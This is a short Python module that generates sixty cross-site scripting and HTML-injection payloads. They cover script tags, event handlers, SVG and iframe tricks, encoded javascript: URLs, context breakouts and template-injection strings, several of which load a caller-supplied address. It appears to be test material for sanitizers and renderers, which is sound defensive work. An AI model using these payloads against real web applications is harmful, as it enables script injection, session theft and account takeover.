"""Ways to run a script or to send a request, each of which works somewhere where text is taken for markup."""

from __future__ import annotations


def vectors(address: str) -> list[str]:
    """Sixty texts; what runs marks the page, and what loads asks the address."""
    run = "document.documentElement.dataset.ran=1"
    coded = "".join(f"&#{ord(letter)};" for letter in f"javascript:{run}")
    events = (
        "onclick onmouseover onfocus onblur onload onerror ontoggle onanimationstart ontransitionend onpointerenter onwheel onscroll"
    ).split()
    return [
        f"<script>{run}</script>",
        f"<SCRIPT SRC={address}/script></SCRIPT>",
        f"<script type=module>import '{address}/module';{run}</script>",
        f"</script><script>{run}</script>",
        f"<scr<script>ipt>{run}</scr</script>ipt>",
        f"<script\x20>{run}</script\x20>",
        f"<script/x>{run}</script>",
        f"<img src=x onerror={run}>",
        f"<img src='{address}/image' onerror='{run}'>",
        f"<img srcset='{address}/set 2x' onerror=\"{run}\">",
        f"<image href={address}/svgimage onerror={run}>",
        f"<svg onload={run}>",
        f"<svg><script>{run}</script></svg>",
        f"<svg><script href={address}/svgscript></script></svg>",
        f"<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
        f"<svg><use href={address}/use#x></use></svg>",
        f"<svg><foreignObject><iframe src={address}/foreign></foreignObject></svg>",
        f"<math><mtext><img src=x onerror={run}></mtext></math>",
        f"<iframe src={address}/frame></iframe>",
        f"<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
        f'<iframe src="javascript:parent.{run}"></iframe>',
        f"<object data={address}/object></object>",
        f"<embed src={address}/embed>",
        f"<video src={address}/video onerror={run}></video>",
        f"<audio src={address}/audio onerror={run}></audio>",
        f"<video poster={address}/poster></video>",
        f"<source src={address}/source onerror={run}>",
        f"<track src={address}/track>",
        f"<input type=image src={address}/input onerror={run}>",
        f"<input autofocus onfocus={run}>",
        f"<details open ontoggle={run}>x</details>",
        f"<body onload={run}>",
        f"<html onmouseover={run}>",
        f"<link rel=stylesheet href={address}/link>",
        f"<link rel=preload as=image href={address}/preload>",
        f"<link rel=icon href={address}/icon>",
        f"<base href={address}/>",
        f"<meta http-equiv=refresh content='0;url={address}/refresh'>",
        f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{run}</script>",
        f"<style>@import url({address}/import);</style>",
        f"</style><style>body{{background:url({address}/ground)}}</style>",
        f"<style>@font-face{{font-family:x;src:url({address}/font)}}*{{font-family:x}}</style>",
        f"</title><script>{run}</script>",
        f"</textarea><img src=x onerror={run}>",
        f"--><script>{run}</script><!--",
        f"]]><script>{run}</script>",
        f'"><img src={address}/double onerror={run}>',
        f"'><img src={address}/single onerror={run}>",
        f'" onmouseover="{run}" x="',
        f"' autofocus onfocus='{run}' x='",
        f"javascript:{run}",
        f"<a href='javascript:{run}'>a</a>",
        f"<a href='{coded}'>a</a>",
        f"<form action={address}/form><button formaction={address}/button>go</button></form>",
        f"<table background={address}/table><td background={address}/cell></table>",
        f"\u202e</bdi></blockquote></figure></main><script>{run}</script>",
        f"\ufeff<\u200bscript>{run}</script>\x00<script>{run}</script>",
        "{{constructor.constructor('" + run + "')()}}${" + run + "}<%=" + run + "%>",
        f"<template shadowrootmode=open><img src={address}/shadow onerror={run}></template>",
        "".join(f"<b {event}={run} tabindex=0>x</b>" for event in events),
    ]
